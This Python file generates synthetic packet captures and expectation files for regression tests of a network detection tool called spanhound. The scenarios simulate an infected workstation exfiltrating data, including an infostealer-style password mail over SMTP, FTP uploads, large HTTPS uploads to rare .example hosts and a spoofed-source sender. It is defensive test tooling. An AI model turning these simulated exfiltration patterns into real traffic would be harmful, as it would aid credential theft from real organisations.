#!/usr/bin/python3
"""Generate the exfiltration regression captures (deterministic: fixed
seeds, fixed t0; rerun to regenerate every file):

    /usr/bin/python3 tests/gen/gen_exfil.py pcaps/exfil tests/regress/exfil

writes PCAP_DIR/<case>.pcap and CASE_DIR/<case>/case.json (+ case.conf when
the case needs a configuration) and CASE_DIR/README.md.  The expectations
are what the generator put on the wire (tests/regress/attacks/check.py
asserts them on spanhound's EVE output); the attacks runner finds the
capture at pcaps/exfil/<case>.pcap.

The segment is gen_behaviour.py's office: 10.50.0.1 gateway (router and
DHCP server), 10.50.0.53 resolver (forwards to 192.0.2.53, both legs
mirrored), 10.50.0.17 "WS-17" the infected host (I), 10.50.0.21/.22
workstations, 10.50.0.25 the organisation's mail relay.  External peers
use RFC 5737 addresses; invented names under .example; the popular upload
service uses its real name (drive.google.com) answered with a
documentation address.

Exfiltration evidence (a workstation's mail to an external server, an FTP
upload, a large upload to a rare destination) never convicts alone by
default, so every positive case gives the host a second, weak and
independent signal: the same "corroborator" in every case -- one TLS
session to a rare name held open for 15 minutes with three client messages
(long_session, source flow timing: two evidences, by name and by address,
about 0.46 of the score threshold together).
The negative cases carry the same corroborator: when they pass, it is
because the exfiltration evidence is absent, not because the host had too
little else.  Large uploads are sent as full-size TCP segments captured
with a 96-byte snap length (the wire length is what counts, as on a SPAN
port with a snap length), which keeps the captures small.
"""
import json
import os
import random
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

import gen_behaviour as gb  # noqa: E402
import netgen  # noqa: E402
from gen_behaviour import INFECTED, MIN, WS, app_data, conn, internal, tls_handshake  # noqa: E402
from netgen import ROUTER_MAC, mac_of  # noqa: E402
from scapy.all import IP, TCP, Ether, Raw  # noqa: E402

RELAY = "10.50.0.25"
MAIL_EXT = ("mail.fernwick-cargo.example", "198.51.100.25")     # a rare external mail server
PROVIDER = ("smtp.hosted-mail.example", "203.0.113.25")          # the organisation's provider
FTP_EXT = ("ftp.quarrel-files.example", "198.51.100.21")
DROP = ("files.quillmark-drop.example", "198.51.100.80")
POPULAR_UP = ("drive.google.com", "192.0.2.90")
CORRO = ("cdn.velmora-sync.example", "192.0.2.77")
SNAP = 96

MAIL_CONF = ("infrastructure: {\n  mail_servers = [ \"%s/32\", \"203.0.113.0/24\" ];\n};\n"
             % RELAY)


def scene(seed, extra=None):
    """the office: I, two workstations and whoever `extra` adds ({ip: hostname})"""
    hosts = {INFECTED: "WS-17", WS[0]: "WS-21", WS[1]: "WS-22"}
    hosts.update(extra or {})
    sc = gb.Scene(random.Random(seed))
    gb.office(sc, hosts)
    return sc


def corroborate(sc, t, host, dest=CORRO):
    """the weak second signal: one TLS session to a rare name, 15 minutes,
    three client messages (a long session with no rhythm to judge)"""
    r = sc.r
    name, addr = dest
    t = sc.resolve(t, host, name, [addr]) + 0.002
    c = conn(sc, t, host, addr, 443)
    t = tls_handshake(sc, c, c.t, name)
    t = c.request(t + 300.0, app_data(r, 200, 300), app_data(r, 300, 600))
    t = c.request(t + 290.0, app_data(r, 200, 300), app_data(r, 300, 600))
    return c.close(t + 300.0)


def no_exfil(ip=None):
    """records_forbidden: no verdict record (the end-of-replay `current`
    ones included) carries exfil evidence (for ip, when given)"""
    v = {"evidence": {"$any": {"kind": "exfil"}}}
    if ip:
        v["ip"] = ip
    return [{"event_type": "spanhound_verdict", "spanhound_verdict": v}]


def corroborated(ip=INFECTED, **exfil):
    """records_required: ip's corroborator is there (so a negative case
    passes for want of exfil evidence, not of a second signal), and, when
    exfil is given, an exfil evidence matching it"""
    req = [{"event_type": "spanhound_verdict",
            "spanhound_verdict": {"ip": ip, "evidence": {"$any": {"kind": "long_session"}}}}]
    if exfil:
        e = {"kind": "exfil"}
        e.update(exfil)
        req.append({"event_type": "spanhound_verdict",
                    "spanhound_verdict": {"ip": ip, "evidence": {"$any": e}}})
    return req


def bulk_c2s(c, t, total, seg=1448, gap=0.0004, first=b""):
    """total bytes from the client in full-size segments, captured with a
    SNAP-byte snap length (the first segment whole, starting with `first`);
    the server ACKs every 8th.  Returns the time after."""
    sent, i = 0, 0
    while sent < total:
        n = min(seg, total - sent)
        data = (first + bytes(n))[:n] if i == 0 else bytes(n)
        p = (c.ec / IP(src=c.client, dst=c.server) /
             TCP(sport=c.sp, dport=c.dport, flags="PA", seq=c.cseq, ack=c.sseq) / Raw(data))
        if i:
            b = bytes(p)
            p = Ether(b[:SNAP])
            p.wirelen = len(b)
        c.net.add(t, p)
        c.cseq += n
        sent += n
        i += 1
        if i % 8 == 0 or sent >= total:
            c.ack_s(t + c.rtt)
        t += gap
    c.t = t
    return t + c.rtt


def bulk_s2c(c, t, total, seg=1448, gap=0.0004):
    """total bytes from the server, likewise"""
    sent, i = 0, 0
    while sent < total:
        n = min(seg, total - sent)
        p = (c.es / IP(src=c.server, dst=c.client) /
             TCP(sport=c.dport, dport=c.sp, flags="PA", seq=c.sseq, ack=c.cseq) / Raw(bytes(n)))
        if i:
            b = bytes(p)
            p = Ether(b[:SNAP])
            p.wirelen = len(b)
        c.net.add(t, p)
        c.sseq += n
        sent += n
        i += 1
        if i % 8 == 0 or sent >= total:
            c.ack_c(t + 0.02)
        t += gap
    c.t = t
    return t + 0.02


# ---- SMTP ---------------------------------------------------------------------

def stealer_message(r, size):
    """an infostealer's report mail (RFC 5322 text), about size bytes"""
    head = ("From: shipping@fernwick-cargo.example\r\nTo: drop@fernwick-cargo.example\r\n"
            "Subject: PW_admin/WS-17\r\nMIME-Version: 1.0\r\n"
            "Content-Type: text/html; charset=utf-8\r\n\r\n<html><body>")
    rows = []
    while len(head) + sum(map(len, rows)) < size:
        rows.append("<br>Host: %s User: %s Pass: %s\r\n" % (
            "".join(r.choice("abcdefghijklmnop") for _ in range(12)),
            "".join(r.choice("abcdefgh") for _ in range(8)),
            "".join(r.choice("ABCDEFGHabcdefgh0123456789") for _ in range(14))))
    return (head + "".join(rows) + "</body></html>\r\n.\r\n").encode()


def smtp_session(sc, t, host, server, port=587, message=None, name=None):
    """a plaintext submission session (RFC 5321 / 4954 AUTH LOGIN); with a
    message, MAIL/RCPT/DATA, else EHLO and QUIT only.  Returns the time after."""
    if name:
        t = sc.resolve(t, host, name, [server]) + 0.002
    c = conn(sc, t, host, server, port)
    t = c.t + 0.05
    c.s2c(t, b"220 mx.example ESMTP ready\r\n")
    t = c.request(t + 0.01, b"EHLO WS-17\r\n",
                  b"250-mx.example\r\n250-SIZE 52428800\r\n250-AUTH PLAIN LOGIN\r\n250 HELP\r\n")
    if message is not None:
        for cmd, rep in ((b"AUTH LOGIN\r\n", b"334 VXNlcm5hbWU6\r\n"),
                         (b"c2hpcHBpbmdAZmVybndpY2stY2FyZ28uZXhhbXBsZQ==\r\n",
                          b"334 UGFzc3dvcmQ6\r\n"),
                         (b"U2hpcHBpbmdAMjI0NTU0\r\n", b"235 Authentication succeeded\r\n"),
                         (b"MAIL FROM:<shipping@fernwick-cargo.example>\r\n", b"250 OK\r\n"),
                         (b"RCPT TO:<drop@fernwick-cargo.example>\r\n", b"250 Accepted\r\n"),
                         (b"DATA\r\n", b"354 Enter message\r\n")):
            t = c.request(t + 0.01, cmd, rep)
        for i in range(0, len(message), 1400):
            c.c2s(t + 0.001 * (i // 1400), message[i:i + 1400])
        t += 0.001 * (len(message) // 1400 + 1)
        c.s2c(t + c.rtt, b"250 OK id=1sEU1t-004oSu-0d\r\n")
        t = c.ack_c(t + c.rtt + 0.04)
    t = c.request(t + 0.01, b"QUIT\r\n", b"221 closing connection\r\n")
    return c.close(t + 0.01)


def mail_case(seed, server, name, port=587, message_size=3000, config=None, extra=None,
              sender=INFECTED):
    sc = scene(seed, extra)
    corroborate(sc, 20.0, sender)
    smtp_session(sc, 200.0, sender, server, port,
                 stealer_message(sc.r, message_size) if message_size else None, name)
    return sc


def case_smtp_external_data():
    sc = mail_case(2001, MAIL_EXT[1], MAIL_EXT[0])
    return sc, dict(
        forges="I resolves %s and submits a 3 kB mail to it (%s:587, plaintext, AUTH LOGIN, "
               "DATA), and holds the corroborating 15-minute TLS session to %s"
               % (MAIL_EXT[0], MAIL_EXT[1], CORRO[0]),
        outcome="I flagged with exfil (mail) and long_session evidence; the exfil evidence "
                "names the server's address",
        flagged=[INFECTED],
        hosts={INFECTED: {"verdict": "infected", "evidence_kinds": ["exfil", "long_session"],
                          "evidence": {"$any": {"kind": "exfil", "ioc": MAIL_EXT[1],
                                                "ioc_type": "ip"}}}})


def case_smtp_mail_client():
    sc = mail_case(2002, MAIL_EXT[1], MAIL_EXT[0])
    return sc, dict(
        forges="as smtp_external_data, with I declared in infrastructure.mail_clients",
        outcome="nobody flagged (a declared mail client's mail is no evidence; the "
                "corroborator alone is too weak)",
        config="infrastructure: {\n  mail_clients = [ \"%s/32\" ];\n};\n" % INFECTED,
        flagged=[], never_flagged=[INFECTED, WS[0], WS[1]],
        records_required=corroborated(), records_forbidden=no_exfil())


def case_smtp_configured_provider():
    sc = mail_case(2003, PROVIDER[1], PROVIDER[0])
    return sc, dict(
        forges="I submits the same 3 kB mail to %s (%s:587), inside infrastructure.mail_servers "
               "(the organisation's hosted provider), with the corroborator" % PROVIDER,
        outcome="nobody flagged",
        config=MAIL_CONF, flagged=[], never_flagged=[INFECTED, WS[0], WS[1]],
        records_required=corroborated(), records_forbidden=no_exfil())


def case_smtp_session_only():
    sc = mail_case(2004, MAIL_EXT[1], MAIL_EXT[0], message_size=0)
    return sc, dict(
        forges="I opens a submission session to %s:587 (EHLO, QUIT: no message), with the "
               "corroborator" % MAIL_EXT[1],
        outcome="nobody flagged (a session that only opens is weak evidence: exfil at "
                "confidence 0.3)",
        flagged=[], never_flagged=[INFECTED, WS[0], WS[1]],
        records_required=corroborated(confidence=0.3,
                                      explanation={"$contains": "sent only"}))


def case_smtp_odd_port():
    sc = mail_case(2005, MAIL_EXT[1], MAIL_EXT[0], port=2525)
    return sc, dict(
        forges="I submits the 3 kB mail to %s on port 2525 (SMTP recognised by content), "
               "with the corroborator" % MAIL_EXT[1],
        outcome="I flagged with exfil and long_session evidence",
        flagged=[INFECTED],
        hosts={INFECTED: {"verdict": "infected", "evidence_kinds": ["exfil", "long_session"]}})


def case_smtps_implicit_tls():
    """RFC 8314 implicit TLS on 465: nDPI 4.2 names the flow TLS, not SMTPS"""
    sc = scene(2007)
    corroborate(sc, 20.0, INFECTED)
    t = sc.resolve(200.0, INFECTED, MAIL_EXT[0], [MAIL_EXT[1]]) + 0.002
    c = conn(sc, t, INFECTED, MAIL_EXT[1], 465)
    t = tls_handshake(sc, c, c.t, MAIL_EXT[0])
    for _ in range(6):
        t = c.request(t + 0.3, app_data(sc.r, 900, 1200), app_data(sc.r, 40, 90))
    c.close(t + 0.1)
    return sc, dict(
        forges="I resolves %s and submits about 6 kB over implicit TLS to %s:465 (RFC 8314 "
               "submission; nDPI calls it plain TLS), with the corroborator"
               % (MAIL_EXT[0], MAIL_EXT[1]),
        outcome="I flagged with exfil (mail) and long_session evidence",
        flagged=[INFECTED],
        hosts={INFECTED: {"verdict": "infected", "evidence_kinds": ["exfil", "long_session"],
                          "evidence": {"$any": {"kind": "exfil", "ioc": MAIL_EXT[0]}}}})


def case_relay_to_internet():
    sc = scene(2006, {RELAY: "MAIL-RELAY"})
    corroborate(sc, 20.0, RELAY)
    r = sc.r
    # workstations hand mail to the relay; the relay sends it on to the internet
    for i, ws in enumerate([WS[0], WS[1], INFECTED]):
        smtp_session(sc, 100.0 + 40 * i, ws, RELAY, 25, stealer_message(r, 2000))
        smtp_session(sc, 102.0 + 40 * i, RELAY, MAIL_EXT[1], 25, stealer_message(r, 2200),
                     MAIL_EXT[0] if i == 0 else None)
    return sc, dict(
        forges="three workstations (I among them) submit mail to the internal relay %s "
               "(port 25), which sends each on to %s:25; the relay, declared in "
               "infrastructure.mail_servers, also holds the corroborator" % (RELAY, MAIL_EXT[1]),
        outcome="nobody flagged: mail to an internal relay is no evidence, and the declared "
                "relay's mail to the internet neither",
        config=MAIL_CONF, flagged=[], never_flagged=[INFECTED, WS[0], WS[1], RELAY],
        records_required=corroborated(RELAY), records_forbidden=no_exfil())


def case_attack_forged_mail():
    """WS-22 forges WS-21's address (its own MAC) to send mail out; WS-21
    holds the corroborator itself, so its own evidence plus the forged mail
    would flag it if the forgery counted"""
    sc = scene(2007)
    victim, forger = WS[0], WS[1]
    corroborate(sc, 20.0, victim)
    orig = sc.net.eth

    def forged(s, d, inside):
        e = orig(s, d, inside)
        if s == victim:
            e.src = mac_of(forger)
        return e
    sc.net.eth = forged
    smtp_session(sc, 200.0, victim, MAIL_EXT[1], 587, stealer_message(sc.r, 3000))
    corroborate(sc, 30.0, victim, ("sync.harrow-vale.example", "192.0.2.78"))
    sc.net.eth = orig
    return sc, dict(
        forges="%s sends a 3 kB mail to %s:587 and holds a 15-minute TLS session to a rare "
               "name (the corroborator's shape), both with %s's source address and its own "
               "MAC; %s holds the corroborator itself" % (forger, MAIL_EXT[1], victim, victim),
        outcome="nobody flagged (the forged mail speaks for nobody); a "
                "spanhound_spoofed_source record names %s's address and the exfil evidence"
                % victim,
        flagged=[], never_flagged=[INFECTED, victim, forger],
        records_forbidden=no_exfil(victim),
        records_required=corroborated(victim) + [{"event_type": "spanhound_spoofed_source",
                           "spanhound_spoofed_source": {"ip": victim,
                                                        "kind": "exfil"}}])


# ---- FTP ------------------------------------------------------------------------

def ftp_session(sc, t, host, mode="passive", upload=200000, download=0):
    """an FTP session (RFC 959) with FTP_EXT: login, then STOR of `upload`
    bytes or RETR of `download` bytes over a passive (PASV, the host connects
    to the server's port 40001) or active (PORT, the server connects from
    port 20 to the host's port 50123) data connection"""
    name, server = FTP_EXT
    t = sc.resolve(t, host, name, [server]) + 0.002
    c = conn(sc, t, host, server, 21)
    t = c.t + 0.05
    c.s2c(t, b"220 FTP server ready\r\n")
    for cmd, rep in ((b"USER drop\r\n", b"331 Password required\r\n"),
                     (b"PASS s3cr3t\r\n", b"230 Logged in\r\n"),
                     (b"TYPE I\r\n", b"200 Type set to I\r\n")):
        t = c.request(t + 0.01, cmd, rep)
    if mode == "passive":
        t = c.request(t + 0.01, b"PASV\r\n", b"227 Entering Passive Mode (198,51,100,21,156,65)\r\n")
    else:
        t = c.request(t + 0.01, b"PORT 10,50,0,17,196,75\r\n", b"200 PORT command successful\r\n")
    verb = b"STOR report.zip\r\n" if upload else b"RETR update.zip\r\n"
    c.c2s(t + 0.01, verb)
    t += 0.02
    if mode == "passive":
        d = netgen.TcpConn(sc.net, t, host, server, 40001, internal, rtt=c.rtt)
    else:
        d = netgen.TcpConn(sc.net, t, server, host, 50123, internal, rtt=c.rtt, sport=20)
    c.s2c(d.t + 0.01, b"150 Opening BINARY mode data connection\r\n")
    t = d.t + 0.02
    host_is_client = mode == "passive"
    if upload:
        t = (bulk_c2s(d, t, upload, first=b"PK\x03\x04") if host_is_client
             else bulk_s2c(d, t, upload))
        t = d.close(t + 0.01, by_client=host_is_client)
    else:
        t = bulk_s2c(d, t, download) if host_is_client else bulk_c2s(d, t, download)
        t = d.close(t + 0.01, by_client=not host_is_client)
    c.s2c(t + 0.01, b"226 Transfer complete\r\n")
    t = c.ack_c(t + 0.05)
    t = c.request(t + 0.01, b"QUIT\r\n", b"221 Goodbye\r\n")
    return c.close(t + 0.01)


def ftp_case(seed, **kw):
    sc = scene(seed)
    corroborate(sc, 20.0, INFECTED)
    ftp_session(sc, 200.0, INFECTED, **kw)
    return sc


def case_ftp_upload_passive():
    sc = ftp_case(2101, mode="passive", upload=200000)
    return sc, dict(
        forges="I logs in to %s (%s:21), PASV, and uploads 200 kB (STOR) on a data "
               "connection to the server's port 40001, with the corroborator" % FTP_EXT,
        outcome="I flagged with exfil (FTP upload) and long_session evidence",
        flagged=[INFECTED],
        hosts={INFECTED: {"verdict": "infected", "evidence_kinds": ["exfil", "long_session"],
                          "evidence": {"$any": {"kind": "exfil",
                                                "explanation": {"$contains": "FTP upload"}}}}})


def case_ftp_upload_active():
    sc = ftp_case(2102, mode="active", upload=200000)
    return sc, dict(
        forges="I logs in to %s (%s:21), PORT, and the server connects from port 20 to I's "
               "port 50123, on which I uploads 200 kB (STOR), with the corroborator" % FTP_EXT,
        outcome="I flagged with exfil (FTP upload) and long_session evidence",
        flagged=[INFECTED],
        hosts={INFECTED: {"verdict": "infected", "evidence_kinds": ["exfil", "long_session"],
                          "evidence": {"$any": {"kind": "exfil",
                                                "explanation": {"$contains": "FTP upload"}}}}})


def case_ftp_download():
    sc = ftp_case(2103, mode="passive", upload=0, download=2000000)
    return sc, dict(
        forges="I logs in to %s (%s:21), PASV, and downloads 2 MB (RETR), with the "
               "corroborator" % FTP_EXT,
        outcome="nobody flagged (a download is not exfiltration)",
        flagged=[], never_flagged=[INFECTED, WS[0], WS[1]],
        records_required=corroborated(), records_forbidden=no_exfil())


# ---- large uploads --------------------------------------------------------------

def https_upload(sc, t, host, name, addr, size):
    """lookup, TLS handshake with SNI, `size` bytes of records up, a small answer"""
    t = sc.resolve(t, host, name, [addr]) + 0.002
    c = conn(sc, t, host, addr, 443)
    t = tls_handshake(sc, c, c.t, name)
    t = bulk_c2s(c, t, size, first=b"\x17\x03\x03\x40\x00")
    t = c.request(t + 0.01, app_data(sc.r, 40, 80), app_data(sc.r, 300, 600))
    return c.close(t + 0.05)


def case_upload_rare():
    sc = scene(2201)
    corroborate(sc, 20.0, INFECTED)
    https_upload(sc, 200.0, INFECTED, DROP[0], DROP[1], 3000000)
    return sc, dict(
        forges="I resolves %s (no other host uses it) and uploads 3 MB over HTTPS, with the "
               "corroborator" % DROP[0],
        outcome="I flagged with exfil (large upload, naming %s) and long_session evidence"
                % DROP[0],
        flagged=[INFECTED],
        hosts={INFECTED: {"verdict": "infected", "evidence_kinds": ["exfil", "long_session"],
                          "evidence": {"$any": {"kind": "exfil", "ioc": DROP[0],
                                                "ioc_type": "domain"}}}})


def case_upload_popular():
    sc = scene(2202)
    corroborate(sc, 20.0, INFECTED)
    https_upload(sc, 200.0, INFECTED, POPULAR_UP[0], POPULAR_UP[1], 3000000)
    return sc, dict(
        forges="I resolves %s through the resolver and uploads 3 MB to the answer over HTTPS, "
               "with the corroborator" % POPULAR_UP[0],
        outcome="nobody flagged (a popular service, bound to the address by a DNS answer)",
        flagged=[], never_flagged=[INFECTED, WS[0], WS[1]],
        records_required=corroborated(), records_forbidden=no_exfil())


CASES = [
    ("smtp_external_data", case_smtp_external_data),
    ("smtp_mail_client", case_smtp_mail_client),
    ("smtp_configured_provider", case_smtp_configured_provider),
    ("smtp_session_only", case_smtp_session_only),
    ("smtp_odd_port", case_smtp_odd_port),
    ("smtps_implicit_tls", case_smtps_implicit_tls),
    ("relay_to_internet", case_relay_to_internet),
    ("attack_forged_mail", case_attack_forged_mail),
    ("ftp_upload_passive", case_ftp_upload_passive),
    ("ftp_upload_active", case_ftp_upload_active),
    ("ftp_download", case_ftp_download),
    ("upload_rare", case_upload_rare),
    ("upload_popular", case_upload_popular),
]

README_HEAD = """\
# Exfiltration regressions

A workstation submitting mail to an external server, FTP uploads and large
uploads to a rare destination (detect/exfil.h), against configured mail
infrastructure, downloads and popular services; and a LAN host forging a
workstation's address to send mail.  One directory per case:

- `case.json`: the expectations `tests/regress/attacks/check.py` asserts on
  spanhound's EVE output (keys and patterns: tests/regress/attacks/README.md);
- `case.conf`: the configuration passed with `-c`, only when the case needs one;
- the capture is `pcaps/exfil/<case>.pcap`.

Everything is generated by `tests/gen/gen_exfil.py` (deterministic scapy;
documentation and private address space; its docstring describes the
segment and the corroborating signal every case carries).  Run:
`tests/regress/exfil/run.sh build/spanhound` (the attacks runner pointed
at this directory).  Regenerate (this README included; edit the generator,
not this file): `make update-golden`, or
`/usr/bin/python3 tests/gen/gen_exfil.py pcaps/exfil tests/regress/exfil`.

## Cases

| case | what happens | what must happen | pcap |
|---|---|---|---:|
"""


def main(argv):
    if len(argv) != 3:
        sys.exit("usage: gen_exfil.py PCAP_DIR CASE_DIR")
    pcap_dir, case_dir = argv[1], argv[2]
    os.makedirs(pcap_dir, exist_ok=True)
    os.makedirs(case_dir, exist_ok=True)
    rows, total = [], 0
    for name, fn in CASES:
        sc, spec = fn()
        pcap = os.path.join(pcap_dir, name + ".pcap")
        sc.write(pcap)
        d = os.path.join(case_dir, name)
        os.makedirs(d, exist_ok=True)
        case = {"case": name, "forges": spec["forges"], "outcome": spec["outcome"]}
        conf = os.path.join(d, "case.conf")
        if spec.get("config"):
            with open(conf, "w") as f:
                f.write("# %s (tests/gen/gen_exfil.py)\n%s" % (name, spec["config"]))
        elif os.path.exists(conf):
            os.remove(conf)
        for k in netgen.EXPECT_KEYS:
            if k in spec:
                case[k] = spec[k]
        with open(os.path.join(d, "case.json"), "w") as f:
            json.dump(case, f, indent=1)
            f.write("\n")
        size = os.path.getsize(pcap)
        total += size
        rows.append("| `%s` | %s | %s | %d KB |" % (name, case["forges"], case["outcome"],
                                                    (size + 1023) // 1024))
    with open(os.path.join(case_dir, "README.md"), "w") as f:
        f.write(README_HEAD + "\n".join(rows) + "\n\nTotal: %d KB of captures.\n"
                % ((total + 1023) // 1024))


if __name__ == "__main__":
    main(sys.argv)
